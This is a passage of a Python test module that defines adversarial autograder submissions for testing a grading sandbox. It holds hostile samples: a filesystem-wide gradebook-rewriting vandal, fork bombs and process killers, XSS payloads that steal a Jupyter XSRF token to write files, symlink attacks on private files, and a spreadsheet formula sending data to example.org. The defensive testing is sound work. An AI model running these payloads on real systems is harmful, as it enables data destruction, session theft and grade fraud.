"""The adversarial corpus: hostile or broken lesson-2 submissions, each with its exact outcome.

Every case starts from a correct working copy (the reference helpers, the learner's
notebooks) and changes one thing. Lesson 2's graded functions are sigmoid, log_sigmoid,
softmax, log_softmax and logsumexp; a case names the status each function must end with
in checks.csv, every other function must pass. A cheat that targets one function earns
nothing on it, and the honest functions beside it keep their points.

The attacks that look for other people's files search the whole filesystem for the
canary student's folder, the gradebook and the reference, so that they would find them
wherever the grader keeps them, if the sandbox let them see.
"""

import json
import os
import pickle
import py_compile
import shutil
import struct
from dataclasses import dataclass, field
from pathlib import Path

from autograder.grading.demo import reference_helpers, working_copy, zip_folder
from autograder.grading.submissions import rejected_label

CANARY = "canary"  # an honest student graded first; no attack may change anything of theirs
LESSON = "02-sigmoid-vs-softmax"
FUNCTIONS = ("sigmoid", "softmax", "logsumexp", "log_softmax", "log_sigmoid")  # module order
MODULE = "sigmoid_softmax.py"

CORRECT_SOFTMAX = """\
    z = as_float_array(z, "z")
    with np.errstate(over="ignore"):
        e = np.exp(z - np.max(z, axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
"""
WRONG_SOFTMAX = """\
    z = as_float_array(z, "z")
    return np.zeros_like(z)
"""
# Searches run from the root; a sandbox that shows nothing makes them find nothing.
FIND = """\
import os
import sqlite3


def walk():
    for folder, subfolders, files in os.walk("/"):
        subfolders[:] = [s for s in subfolders if s not in ("proc", "sys", "dev")]
        yield folder, subfolders, files


def find(name):
    for folder, subfolders, files in walk():
        if name in files or name in subfolders:
            return os.path.join(folder, name)
    return None


def course_gradebook():
    for folder, _, files in walk():
        for name in files:
            try:
                db = sqlite3.connect(f"file:{os.path.join(folder, name)}?mode=ro", uri=True)
                if db.execute("SELECT 1 FROM student WHERE id = 'canary'").fetchone():
                    return True
            except sqlite3.Error:
                pass
    return False
"""


@dataclass
class Case:
    name: str
    threat: str
    build: object  # build(folder): turn the correct working copy in `folder` into the case
    expected: dict = field(default_factory=dict)  # function -> status; the rest "passed"
    all_functions: str = ""  # the status of every function, when the package cannot import
    # issue 11: build(folder, bait) aims at the test's bait, a private file outside the course
    bait: bool = False
    problem: str = ""  # text the student's problems in submissions.csv must hold
    # A submission refused as a whole before grading has no per-function statuses: its
    # one row in submissions.csv holds `refused`, and it has no other rows anywhere.
    refused: str = ""
    pack: object = None  # pack(folder): turn the built folder into what is handed in
    label: str = ""  # the id its rows are under, if not its name (a rejected entry's)
    # Its tamper_suspect functions failed in the notebook and passed the re-check, whose
    # score counts: they keep their points, flagged.
    re_check_passes: bool = False

    def status(self, function):
        return self.all_functions or self.expected.get(function, "passed")

    def earns(self, function):
        """Whether the function keeps its points: the re-check passed it, flagged or not."""
        status = self.status(function)
        return status == "passed" or (status == "tamper_suspect" and self.re_check_passes)

    @property
    def student(self):
        return self.label or self.name


def helpers_of(folder):
    return folder / "helpers"


def with_softmax(body, prelude=""):
    """A build that gives softmax this body, with `prelude` at the top of the module."""

    def build(folder):
        text = reference_helpers({MODULE: [("softmax", body)]})[MODULE]
        (helpers_of(folder) / MODULE).write_text(prelude + "\n" + text)

    return build


def appending(name, code):
    """A build that appends `code` to helpers/<name>."""

    def build(folder):
        path = helpers_of(folder) / name
        path.write_text(path.read_text() + "\n" + code)

    return build


def both(*builds):
    def build(folder):
        for step in builds:
            step(folder)

    return build


def notebook_edit(edit):
    """A build that edits the lesson's notebook (a JSON dict) in place."""

    def build(folder):
        path = folder / "lessons" / f"{LESSON}.ipynb"
        notebook = json.loads(path.read_text())
        edit(notebook)
        path.write_text(json.dumps(notebook))

    return build


def grade_cell(notebook, grade_id):
    return next(
        c
        for c in notebook["cells"]
        if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id
    )


def empty_softmax_test(notebook):
    grade_cell(notebook, "softmax")["source"] = "pass  # nothing to see here"


def unlock_and_empty_softmax_test(notebook):
    cell = grade_cell(notebook, "softmax")
    cell["metadata"]["nbgrader"]["locked"] = False
    cell["source"] = "pass"


def delete_softmax_test(notebook):
    notebook["cells"].remove(grade_cell(notebook, "softmax"))


def duplicate_ids(notebook):
    for cell in notebook["cells"]:
        cell["id"] = "same"


def print_passed(notebook):
    cell = grade_cell(notebook, "check-softmax")
    cell["source"] = 'print("All tests passed")\n' + "".join(cell["source"])


def remove(relative):
    def build(folder):
        target = folder / relative
        shutil.rmtree(target) if target.is_dir() else target.unlink()

    return build


def planted_pyc(folder):
    """A compiled correct module beside a wrong source, where Python might prefer it."""
    correct = folder / "correct.py"
    correct.write_text(reference_helpers()[MODULE])
    cache = helpers_of(folder) / "__pycache__"
    cache.mkdir()
    for tag in ("cpython-310", "cpython-311", "cpython-312", "cpython-313"):
        py_compile.compile(str(correct), str(cache / f"sigmoid_softmax.{tag}.pyc"))
    correct.unlink()
    with_softmax(WRONG_SOFTMAX)(folder)


def planted_pickle(folder):
    """Answers in a pickle, which the helpers load; the copy graded holds only .py files."""
    (helpers_of(folder) / "answers.pkl").write_bytes(pickle.dumps({"softmax": [0.5, 0.5]}))
    body = """\
    import os
    import pickle

    here = os.path.dirname(__file__)
    with open(os.path.join(here, "answers.pkl"), "rb") as f:
        return np.asarray(pickle.load(f)["softmax"])
"""
    with_softmax(body)(folder)


def planted_sitecustomize(folder):
    """Startup hooks that would patch NumPy's asserts, in every place a Python might look."""
    patch = "import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None\n"
    for place in (helpers_of(folder), folder, folder / "lessons"):
        (place / "sitecustomize.py").write_text(patch)
        (place / "usercustomize.py").write_text(patch)
    with_softmax(WRONG_SOFTMAX)(folder)


def symlinked_module(folder):
    """The module is a link to the reference: links are never followed."""
    target = helpers_of(folder) / MODULE
    target.unlink()
    reference = Path(__file__).resolve().parent.parent / "solutions" / "helpers" / MODULE
    target.symlink_to(reference)


SUCCEEDS_IF = """\
    try:
        found = {probe}
    except BaseException:
        found = None
    if not found:
        return np.zeros_like(as_float_array(z, "z"))
{correct}"""


def cheat_if(probe):
    """softmax is right only if `probe` (an expression) finds what the sandbox hides."""
    return with_softmax(SUCCEEDS_IF.format(probe=probe, correct=CORRECT_SOFTMAX), prelude=FIND)


VANDAL = """
import os as _os
import sqlite3 as _sqlite3

for _folder, _subfolders, _files in _os.walk("/"):
    _subfolders[:] = [s for s in _subfolders if s not in ("proc", "sys", "dev")]
    for _name in _files:
        _path = _os.path.join(_folder, _name)
        try:
            if _name.endswith(".db"):
                _db = _sqlite3.connect(_path)
                _db.execute("UPDATE grade SET manual_score = 100, auto_score = 100")
                _db.commit()
            elif "canary" in _path or _name.endswith((".ipynb", ".py", ".json", ".csv")):
                with open(_path, "a") as _f:
                    _f.write("vandalised")
        except Exception:
            pass
"""

CASES = [
    # -- tampering with tests and grading ----------------------------------------------
    Case(
        "patch-assert-allclose",
        "numpy.testing.assert_allclose patched to pass everything, softmax wrong; the hidden"
        " tests never trusted it, so the notebook scores 0 too",
        both(
            with_softmax(WRONG_SOFTMAX),
            appending(
                "__init__.py",
                "import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None\n",
            ),
        ),
        {"softmax": "failed"},
    ),
    Case(
        "patch-np-allclose",
        "np.allclose, np.isclose and np.array_equal always true, softmax wrong",
        both(
            with_softmax(WRONG_SOFTMAX),
            appending(
                "__init__.py",
                "import numpy\nnumpy.allclose = numpy.array_equal = lambda *a, **k: True\n"
                "numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.shape(a), bool)\n",
            ),
        ),
        {"softmax": "failed"},
    ),
    Case(
        "input-transformer",
        "an IPython input transformer that empties every later cell, softmax wrong",
        both(
            with_softmax(WRONG_SOFTMAX),
            appending(
                "__init__.py",
                "try:\n    get_ipython().input_transformers_post.append(lambda lines: [])\n"
                "except NameError:\n    pass\n",
            ),
        ),
        {"softmax": "tamper_suspect"},
    ),
    Case(
        "edited-grade-cell",
        "the softmax test cell replaced by `pass`, softmax wrong",
        both(with_softmax(WRONG_SOFTMAX), notebook_edit(empty_softmax_test)),
        {"softmax": "failed"},
    ),
    Case(
        "unlocked-grade-cell",
        "the softmax test cell unlocked and emptied, softmax wrong",
        both(with_softmax(WRONG_SOFTMAX), notebook_edit(unlock_and_empty_softmax_test)),
        {"softmax": "failed"},
    ),
    Case(
        "deleted-grade-cell",
        "the softmax test cell deleted, softmax wrong",
        both(with_softmax(WRONG_SOFTMAX), notebook_edit(delete_softmax_test)),
        {"softmax": "failed"},
    ),
    Case(
        "always-equal-subclass",
        "softmax returns an ndarray subclass whose == is always true",
        with_softmax(
            "    return np.zeros(np.shape(z)).view(AlwaysEqual)\n",
            prelude="import numpy as np\n\n\nclass AlwaysEqual(np.ndarray):\n"
            "    def __eq__(self, other):\n        return True\n\n"
            "    def __ne__(self, other):\n        return False\n",
        ),
        {"softmax": "failed"},
    ),
    Case(
        "always-equal-object",
        "softmax returns an object whose == is always true",
        with_softmax(
            "    return Anything()\n",
            prelude="class Anything:\n    def __eq__(self, other):\n        return True\n\n"
            "    def __array__(self, dtype=None, copy=None):\n"
            "        import numpy\n        return numpy.zeros(1)\n",
        ),
        {"softmax": "failed"},
    ),
    Case(
        "hard-coded-public",
        "softmax returns the public answers by lookup and guesses elsewhere",
        with_softmax(
            "    key = tuple(np.ravel(np.asarray(z, float)).round(6))\n"
            "    answers = {(0.5, 0.8): [0.42555748, 0.57444252], (1000.0, 0.0): [1.0, 0.0],\n"
            "               (-1000.0, -1000.0): [0.5, 0.5]}\n"
            "    if key in answers:\n        return np.array(answers[key])\n"
            "    return np.full(np.shape(z), 1.0 / np.shape(z)[-1])\n"
        ),
        {"softmax": "failed"},
    ),
    Case(
        "import-solutions",
        "softmax imports the reference from the solutions package, which neither the kernel"
        " nor the re-check can import",
        with_softmax(
            "    from solutions.helpers import softmax as reference\n"
            "    return reference(z, axis)\n"
        ),
        {"softmax": "error"},
    ),
    Case(
        "import-autograder",
        "softmax asks the grader's catalogue and hidden tests for the answer",
        with_softmax(
            "    import autograder.checks.hidden\n    import solutions.helpers\n"
            "    return solutions.helpers.softmax(z, axis)\n"
        ),
        {"softmax": "error"},
    ),
    Case(
        "read-reference-file",
        "softmax finds the reference's source file on disk and runs it",
        cheat_if("find('solutions')"),
        {"softmax": "failed"},
    ),
    Case(
        "read-hidden-tests",
        "softmax reads the hidden tests (autograder/checks/hidden.py) from disk",
        cheat_if("find('hidden.py')"),
        {"softmax": "failed"},
    ),
    Case(
        "read-gradebook",
        "softmax reads the course's gradebook, if it can find it",
        cheat_if("course_gradebook()"),
        {"softmax": "failed"},
    ),
    Case(
        "read-other-student",
        "softmax copies the canary student's helpers",
        cheat_if(f"find('{CANARY}')"),
        {"softmax": "failed"},
    ),
    Case(
        "write-gradebook-and-others",
        "at import: every gradebook set to full marks, every file it can reach vandalised;"
        " in its kernel that is its own judge and public cases too, so its graded cells fail"
        " where the re-check passes: flagged, scored by the re-check",
        both(with_softmax(WRONG_SOFTMAX), appending("__init__.py", VANDAL)),
        dict.fromkeys(FUNCTIONS, "tamper_suspect") | {"softmax": "failed"},
        re_check_passes=True,
    ),
    Case(
        "planted-pyc",
        "compiled bytecode of a correct module beside a wrong source",
        planted_pyc,
        {"softmax": "failed"},
    ),
    Case(
        "planted-pickle",
        "softmax loads its answers from a pickle planted beside the helpers",
        planted_pickle,
        {"softmax": "error"},
    ),
    Case(
        "object-array-result",
        "softmax returns an object array, which only a pickle could carry",
        with_softmax("    return np.array([object(), object()], dtype=object)\n"),
        {"softmax": "failed"},
    ),
    Case(
        "planted-sitecustomize",
        "sitecustomize.py and usercustomize.py that patch NumPy's asserts, softmax wrong",
        planted_sitecustomize,
        {"softmax": "failed"},
    ),
    Case(
        "prints-all-tests-passed",
        "the check cell prints 'All tests passed', softmax wrong",
        both(with_softmax(WRONG_SOFTMAX), notebook_edit(print_passed)),
        {"softmax": "failed"},
    ),
    Case(
        "duplicate-cell-ids",
        "every cell of the notebook shares one id; the helpers are correct",
        notebook_edit(duplicate_ids),
    ),
    Case(
        "symlinked-module",
        "sigmoid_softmax.py is a link to the reference file",
        symlinked_module,
        all_functions="error",
    ),
    # -- crashes and resource abuse --------------------------------------------------------
    Case(
        "sys-exit-at-import",
        "sys.exit(0) when helpers is imported",
        appending("__init__.py", "import sys\nsys.exit(0)\n"),
        all_functions="error",
    ),
    Case(
        "os-exit-at-import",
        "os._exit(0) when helpers is imported",
        appending("__init__.py", "import os\nos._exit(0)\n"),
        all_functions="error",
    ),
    Case(
        "infinite-loop",
        "softmax never returns",
        with_softmax("    while True:\n        pass\n"),
        {"softmax": "timeout"},
    ),
    Case(
        "loop-swallowing-interrupts",
        "softmax never returns and swallows KeyboardInterrupt and every other exception",
        with_softmax(
            "    import time\n    while True:\n        try:\n            time.sleep(0.1)\n"
            "        except BaseException:\n            pass\n"
        ),
        {"softmax": "timeout"},
    ),
    Case(
        "memory-bomb",
        "softmax allocates 50 GB",
        with_softmax("    hog = np.ones(50 * 2**30 // 8)\n    return hog[: np.size(z)]\n"),
        {"softmax": "error"},
    ),
    Case(
        "fork-bomb",
        "softmax forks without end",
        with_softmax(
            "    import os\n    while True:\n        try:\n            os.fork()\n"
            "        except OSError:\n            pass\n"
        ),
        {"softmax": "timeout"},
    ),
    Case(
        "escaping-daemon",
        "at import: a child in a new session that outlives the grading, to tamper later",
        appending(
            "__init__.py",
            "import os as _os, time as _time\nif _os.fork() == 0:\n    _os.setsid()\n"
            "    if _os.fork() == 0:\n        _time.sleep(3600)\n    _os._exit(0)\n",
        ),
    ),
    Case(
        "kill-everything",
        "at import: SIGKILL to every process it can signal, and to its parent",
        appending(
            "__init__.py",
            "import os as _os, signal as _signal\nfor _target in (-1, _os.getppid()):\n"
            "    try:\n        _os.kill(_target, _signal.SIGKILL)\n    except OSError:\n"
            "        pass\n",
        ),
    ),
    Case(
        "network-call",
        "softmax is right only if it can reach a server on the machine or outside it",
        cheat_if(
            "__import__('socket').create_connection(('127.0.0.1', 5432), timeout=2) or "
            "__import__('socket').create_connection(('pypi.org', 443), timeout=2)"
        ),
        {"softmax": "failed"},
    ),
    Case(
        "output-flood",
        "at import: 20 MB on stdout and stderr",
        appending(
            "__init__.py",
            "import sys as _sys\n_sys.stdout.write('flood\\n' * 1_700_000)\n"
            "_sys.stderr.write('flood\\n' * 1_700_000)\n",
        ),
    ),
    # -- plain mistakes -------------------------------------------------------------------
    Case(
        "syntax-error",
        "a syntax error in sigmoid_softmax.py",
        appending(MODULE, "def forgotten(z:\n    return z\n"),
        all_functions="error",
    ),
    Case(
        "wrong-shape",
        "softmax sums over the axis instead of normalising",
        with_softmax("    return np.exp(as_float_array(z, 'z')).sum(axis=axis)\n"),
        {"softmax": "failed"},
    ),
    Case(
        "nan-results",
        "softmax returns NaN",
        with_softmax("    return np.full(np.shape(z), np.nan)\n"),
        {"softmax": "failed"},
    ),
    Case(
        "warns",
        "softmax is right but warns on every call",
        with_softmax(
            '    import warnings\n    warnings.warn("careful", RuntimeWarning)\n' + CORRECT_SOFTMAX
        ),
        {"softmax": "failed"},
    ),
    Case(
        "mutates-input",
        "softmax shifts its input in place",
        with_softmax(
            "    z = as_float_array(z, 'z')\n    z -= np.max(z, axis=axis, keepdims=True)\n"
            "    e = np.exp(z)\n    return e / e.sum(axis=axis, keepdims=True)\n"
        ),
        {"softmax": "failed"},
    ),
    Case(
        "missing-init",
        "helpers/__init__.py deleted",
        remove("helpers/__init__.py"),
        all_functions="error",
    ),
    Case(
        "missing-helpers",
        "no helpers/ folder at all",
        remove("helpers"),
        all_functions="missing",
    ),
]

# -- issue 11: script and floods in what a person opens ---------------------------------
# What a student's script would do in the instructor's page: set a flag, then use the
# instructor's session (its _xsrf cookie) to write files through the Jupyter API, by
# fetch and by XHR. The browser test (tests/test_pages.py) opens these submissions'
# formgrader and feedback pages and watches for both.
PAYLOAD = (
    "window.PWNED = 1; localStorage.setItem('pwned', '1');"
    "var t = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1];"
    "var h = {'Content-Type': 'application/json', 'X-XSRFToken': t};"
    "var b = JSON.stringify({type: 'file', format: 'text', content: 'pwned'});"
    "fetch('/api/contents/pwned-fetch.txt', {method: 'PUT', headers: h, body: b});"
    "var x = new XMLHttpRequest(); x.open('PUT', '/api/contents/pwned-xhr.txt');"
    "x.setRequestHeader('X-XSRFToken', t); x.send(b);"
)
SCRIPT_TAG = f"<script>{PAYLOAD}</script>"
HANDLERS = (
    f'<img src="x" onerror="{PAYLOAD}">'
    f'<svg onload="{PAYLOAD}"></svg>'
    f'<a href="javascript:{PAYLOAD}">click</a>'
    '<img src="/api/contents/pwned-img.txt">'
    f'<iframe srcdoc="{SCRIPT_TAG.replace(chr(34), "&quot;")}"></iframe>'
)
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PAYLOAD}"><script>{PAYLOAD}</script></svg>'
ONE_PIXEL = (  # a 1x1 PNG, base64
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwAD"
    "hgGAWjR9awAAAABJRU5ErkJggg=="
)
FLOOD_MB = 160
FLOOD = f"for _ in range({FLOOD_MB}):\n    display({{'text/plain': 'x' * 2**20}}, raw=True)\n"


def adding_cells(*cells):
    """A notebook edit that inserts `cells` (type, source) after the set-up cell."""

    def edit(notebook):
        new = [
            {"cell_type": kind, "id": f"added-{i}", "metadata": {}, "source": source}
            for i, (kind, source) in enumerate(cells)
        ]
        for cell in new:
            if cell["cell_type"] == "code":
                cell.update(outputs=[], execution_count=None)
        notebook["cells"][2:2] = new

    return notebook_edit(edit)


def answering(text):
    """A notebook edit that writes `text` as the written answer (a hand-graded cell)."""

    def edit(notebook):
        grade_cell(notebook, "answer-sigmoid-or-softmax")["source"] = text

    return notebook_edit(edit)


def displaying(expression):
    """A code cell that displays what `expression` builds, after IPython.display's import."""
    return ("code", f"from IPython.display import *\ndisplay({expression})\n")


PAGE_CASES = [
    Case(
        "script-in-markdown",
        "a <script> in a markdown cell and in the written answer",
        both(
            adding_cells(("markdown", f"Some notes.\n\n{SCRIPT_TAG}\n")),
            answering(f"Independent sigmoids for multi-label problems.\n\n{SCRIPT_TAG}\n"),
        ),
    ),
    Case(
        "event-handlers-in-markdown",
        "<img onerror>, <svg onload>, a javascript: link, an API image and an iframe in markdown",
        both(
            adding_cells(("markdown", f"A figure: {HANDLERS}\n")),
            answering(f"Softmax for one class among many. {HANDLERS}\n"),
        ),
    ),
    Case(
        "html-output-script",
        "a text/html output holding a <script> and event handlers",
        adding_cells(displaying(f"HTML({SCRIPT_TAG + HANDLERS!r})")),
    ),
    Case(
        "javascript-output",
        "a Javascript output (application/javascript)",
        adding_cells(displaying(f"Javascript({PAYLOAD!r})")),
    ),
    Case(
        "svg-output-script",
        "an image/svg+xml output holding a <script> and an onload handler",
        adding_cells(displaying(f"{{'image/svg+xml': {SVG!r}}}, raw=True")),
    ),
    Case(
        "output-metadata-injection",
        "a PNG whose width metadata carries an onerror handler, and a filename on the API",
        adding_cells(
            displaying(
                f"{{'image/png': {ONE_PIXEL!r}}}, raw=True, metadata={{'image/png': "
                "{'width': '1 onerror=window.PWNED=1'}, "
                "'filenames': {'image/png': '/api/contents/pwned-file.png'}}"
            )
        ),
    ),
    Case(
        "display-flood",
        f"{FLOOD_MB} MB of display_data, 1 MB at a time, before the graded cells",
        adding_cells(("code", FLOOD)),
    ),
]
CASES += PAGE_CASES


# -- issue 11: the kernel's folder, links and leftovers ----------------------------------
# After the kernel ends, nbgrader (root in CI) writes, chmods and copies the files of the
# folder the kernel ran in, following links. These kernels plant links, pipes and hard
# links there, and leave files and a daemon in their home, temp and socket folders; the
# kernel runs in a private copy, so none of it reaches a file outside its student's own.
# The test makes the bait: a private (0600) file outside the course with known content.
NOTEBOOK = f"{LESSON}.ipynb"
# From the kernel's folder, OUT/course/autograded/<student>/lesson-02:
CANARY_MODULE = f"../../../submitted/{CANARY}/lesson-02/helpers/{MODULE}"
GRADEBOOK = "../../../../gradebook.db"


def with_last_cells(*codes):
    """A build that appends code cells running `codes` to the lesson's notebook."""

    def add(notebook):
        for number, code in enumerate(codes):
            name = "planted" + (f"-{number}" if number else "")
            cell = {"cell_type": "code", "id": name, "metadata": {}, "source": code}
            notebook["cells"].append({**cell, "execution_count": None, "outputs": []})

    return notebook_edit(add)


def notebook_as_link(target):
    """The kernel replaces its own notebook by a link to `target`, for nbgrader to write."""
    code = f"import os\nos.remove({NOTEBOOK!r})\nos.symlink({str(target)!r}, {NOTEBOOK!r})\n"
    return with_last_cells(code)


def notebook_as_link_to_bait(folder, bait):
    notebook_as_link(bait)(folder)


def planted_in_folder(folder, bait):
    """A link to the bait, a named pipe and a hard link, for nbgrader to chmod and copy."""
    code = (
        f"import os\nos.symlink({str(bait)!r}, 'notes.txt')\nos.mkfifo('pipe.txt')\n"
        f"os.link('helpers/{MODULE}', 'copy.py')\nos.link({NOTEBOOK!r}, 'same.ipynb')\n"
    )
    with_last_cells(code)(folder)


def timestamp_link(folder, bait):
    (folder / "lessons" / "timestamp.txt").symlink_to(bait)


# Sleeps only outside the notebook kernel, whose cells this corpus gives 5 s: there the
# functions would time out rather than be slow.
SLOW = f"""
import functools as _functools, os as _os, time as _time

_slept = set()


def _slow(function):
    @_functools.wraps(function)
    def slow(*args, **kwargs):
        if function.__name__ not in _slept and "NBGRADER_EXECUTION" not in _os.environ:
            _slept.add(function.__name__)
            _time.sleep(8)  # just under the re-check's 10 s per function
        return function(*args, **kwargs)

    return slow


{"; ".join(f"{name} = _slow({name})" for name in FUNCTIONS)}
"""

# Files and pipes in every folder the kernel can write, a folder 1,200 deep, a daemon
# that keeps writing,
# then cells just shorter than the corpus's 5 s cell timeout, until the notebook's
# watchdog (10 cell timeouts) kills the kernel and its supervisor.
DAEMON = """\
import os, sys, time
while True:
    with open(os.path.join(sys.argv[1], 'daemon.txt'), 'a') as f:
        f.write('still here')
    time.sleep(0.2)
"""
LITTER = f"""\
import json, os, subprocess, sys, tempfile
sockets = os.path.dirname(json.load(open(os.path.expanduser('~/connection.json')))['ip'])
for folder in set([os.path.expanduser('~'), tempfile.gettempdir(), sockets, '.']):
    with open(os.path.join(folder, 'litter.txt'), 'w') as f:
        f.write('left behind')
    os.mkfifo(os.path.join(folder, 'litter.fifo'))
here = os.getcwd()
os.chdir(os.path.expanduser('~'))
for _ in range(1200):  # deeper than shutil.rmtree's recursion can go
    os.mkdir('d')
    os.chdir('d')
os.chdir(here)
command = [sys.executable, '-c', {DAEMON!r}, tempfile.gettempdir()]
subprocess.Popen(command, start_new_session=True)
"""
HANG = "import time\ntime.sleep(4)\n"


CASES += [
    Case(
        "kernel-notebook-links-to-bait",
        "a cell replaces its own .ipynb by a link to a private file outside the course",
        notebook_as_link_to_bait,
        bait=True,
    ),
    Case(
        "kernel-notebook-links-to-canary",
        "a cell replaces its own .ipynb by a link to the canary's staged sigmoid_softmax.py",
        notebook_as_link(CANARY_MODULE),
    ),
    Case(
        "kernel-notebook-links-to-gradebook",
        "a cell replaces its own .ipynb by a link to OUT/gradebook.db",
        notebook_as_link(GRADEBOOK),
    ),
    Case(
        "kernel-plants-link-fifo-hardlink",
        "a cell plants a link to the bait, a named pipe and hard links in its folder",
        planted_in_folder,
        bait=True,
    ),
    Case(
        "timestamp-link",
        "a folder submission whose lessons/timestamp.txt is a link to the bait",
        timestamp_link,
        bait=True,
        problem="not a regular file, not copied: timestamp.txt",
    ),
    Case(
        "slow-but-correct",
        "every function right, but each sleeps just under its time limit in the re-check",
        appending("__init__.py", SLOW),
        problem="slow: the trusted re-check took",
    ),
    Case(
        "kernel-litters-and-hangs",
        "the kernel litters its home, temp and socket folders, starts a daemon, then hangs"
        " swallowing interrupts until the watchdog kills it",
        # 240 s of cells of 4 s: past the notebook watchdog (worker.NOTEBOOK_TIMEOUTS cell
        # timeouts) of either corpus, each cell under its timeout; a corpus whose watchdog
        # outlasts it fails this case's problem test, so the two cannot drift silently.
        with_last_cells(LITTER, *[HANG] * 60),
        problem="the notebook run stopped after",
    ),
]


# -- issue 11: archives, folders and spreadsheet cells ------------------------------------
# Each of these once ended `course grade` with a traceback and no grades.csv, hung it,
# filled OUT, or put a live formula in a CSV. Zips are made by zipfile and then edited
# byte by byte: zipfile writes neither encryption nor methods it cannot read.

DEPTH = 2200  # folders, one inside the other
SPARSE = 300 * 2**20  # bytes that take no disk: apparent size only
# A spreadsheet formula that sends a cell to a server; a file name holds no "/".
HYPERLINK = '=HYPERLINK("https://example.org/?"&A1,"see")'
FORMULA_FOLDER = '=HYPERLINK("example.org?"&A1,"open")'
# The same, and more formulas after a ";" and a line break, where a spreadsheet that
# splits on ";" would start a cell.
FORMULA_MESSAGE = HYPERLINK + ";=1+1\n-2+3,@SUM(A1)"
HUGE_MESSAGE = 300_000  # characters
RERUN = "huge-message"
DEEP_CASE = "deep-folder"  # graded a second time on the same OUT, after the batch


def central_directory(data):
    """The offsets of a zip's central directory entries, from its end record."""
    end = data.rindex(b"PK\x05\x06")
    count, _, offset = struct.unpack("<HII", data[end + 10 : end + 20])
    offsets = []
    for _ in range(count):
        offsets.append(offset)
        name, extra, comment = struct.unpack("<HHH", data[offset + 28 : offset + 34])
        offset += 46 + name + extra + comment
    return offsets


def members(data):
    """(name, central entry offset, local header offset) of every member of a zip."""
    found = []
    for entry in central_directory(data):
        length = struct.unpack("<H", data[entry + 28 : entry + 30])[0]
        name = bytes(data[entry + 46 : entry + 46 + length]).decode()
        found.append((name, entry, struct.unpack("<I", data[entry + 42 : entry + 46])[0]))
    return found


def encrypt(data, name):
    """Set the "encrypted" flag of member `name` in both of its headers."""
    for member, entry, local in members(data):
        if member.endswith(name):
            data[entry + 8] |= 0x1
            data[local + 6] |= 0x1


def method(number):
    """An edit that labels member `name` as compressed with method `number` (9: Deflate64,
    99: AES), as Windows or 7-Zip write them; its data stays deflate."""

    def edit(data, name):
        for member, entry, local in members(data):
            if member.endswith(name):
                data[entry + 10 : entry + 12] = struct.pack("<H", number)
                data[local + 8 : local + 10] = struct.pack("<H", number)

    return edit


def corrupt(data, name):
    """Overwrite the start of member `name`'s deflate data: an invalid block type."""
    for member, _, local in members(data):
        if member.endswith(name):
            lengths = struct.unpack("<HH", data[local + 26 : local + 30])
            start = local + 30 + sum(lengths)
            data[start : start + 16] = b"\xff" * 16


def zipped(*edits, member=MODULE):
    """A pack that zips the working copy as an LMS does, then applies `edits` to the
    bytes of `member`."""

    def pack(folder):
        archive = folder.with_suffix(".zip")
        zip_folder(folder, archive, folder.name)
        shutil.rmtree(folder)
        data = bytearray(archive.read_bytes())
        for edit in edits:
            edit(data, member)
        archive.write_bytes(bytes(data))

    return pack


DIRECTORY = os.O_RDONLY | os.O_DIRECTORY


def nested(folder, depth=DEPTH):
    """Replace the working copy by `depth` empty folders, one inside the other: a wrapper
    that unwrapping would descend until paths grow longer than the system allows.

    Each level is made from the one above it, where a path would be too long.
    """
    shutil.rmtree(folder)
    folder.mkdir()
    level = os.open(folder, DIRECTORY)
    for _ in range(depth):
        os.mkdir("d", dir_fd=level)
        below = os.open("d", DIRECTORY, dir_fd=level)
        os.close(level)
        level = below
    os.close(level)


def unnest(folder):
    """Remove what `nested` made, bottom up, each level from the one below it.

    shutil.rmtree, and so pytest's clean-up, recurses once per level: past Python's limit.
    """
    level, depth = os.open(folder, DIRECTORY), 0
    while "d" in os.listdir(level):
        below = os.open("d", DIRECTORY, dir_fd=level)
        os.close(level)
        level, depth = below, depth + 1
    for _ in range(depth):
        above = os.open("..", DIRECTORY, dir_fd=level)
        os.close(level)
        os.rmdir("d", dir_fd=above)
        level = above
    os.close(level)


def sparse_helpers(folder):
    """A helpers module of SPARSE bytes that occupies no disk."""
    with (helpers_of(folder) / "padding.py").open("wb") as f:
        f.truncate(SPARSE)


def renamed(name):
    def pack(folder):
        folder.rename(folder.with_name(name))

    return pack


def unchanged(folder):
    """The correct working copy, as built."""


ISSUE_11 = [
    Case(
        "encrypted-zip",
        "a zip whose members are encrypted (password-protected)",
        unchanged,
        refused="is encrypted",
        pack=zipped(encrypt),
    ),
    Case(
        "corrupt-deflate-zip",
        "a zip whose helpers module has corrupt deflate data",
        unchanged,
        refused="is corrupt",
        pack=zipped(corrupt),
    ),
    Case(
        "deflate64-zip",
        "a zip compressed with Deflate64 (method 9), which zipfile cannot read",
        unchanged,
        refused="compression method this grader cannot read (9",
        pack=zipped(method(9)),
    ),
    Case(
        DEEP_CASE,
        f"a folder of {DEPTH} empty folders, one inside the other",
        nested,
        refused="nested over 32 folders deep",
    ),
    Case(
        "sparse-helpers",
        "a sparse 300 MB helpers/padding.py: no disk, but a copy would take 300 MB",
        sparse_helpers,
        refused="holds over 256 MB",
    ),
    Case(
        "formula-folder-name",
        "a folder named by a spreadsheet formula, not a student id",
        unchanged,
        refused="is not named by a student id",
        pack=renamed(FORMULA_FOLDER),
        label=rejected_label(FORMULA_FOLDER),
    ),
    Case(
        "formula-message",
        "softmax raises an error whose message is a spreadsheet formula",
        with_softmax(f"    raise ValueError({FORMULA_MESSAGE!r})\n"),
        {"softmax": "error"},
    ),
    Case(
        RERUN,
        f"softmax raises an error whose message is {HUGE_MESSAGE:,} characters long",
        with_softmax(f"    raise ValueError('x' * {HUGE_MESSAGE})\n"),
        {"softmax": "error"},
    ),
]
CASES += ISSUE_11


def unmake(submissions):
    """Make what `make` wrote removable by shutil.rmtree, which pytest cleans up with."""
    unnest(submissions / DEEP_CASE)


# -- issue 11: the re-check's records ---------------------------------------------------
# The learner's code runs in the re-check's child, beside the folder where the child
# records each call (out/<i>.json, out/<i>_*.npy, out/import.json), and can write anything
# there. softmax below is right in the re-check, and there, on each of its calls after the
# first, it replaces what the child recorded of its previous call with `plant(out,
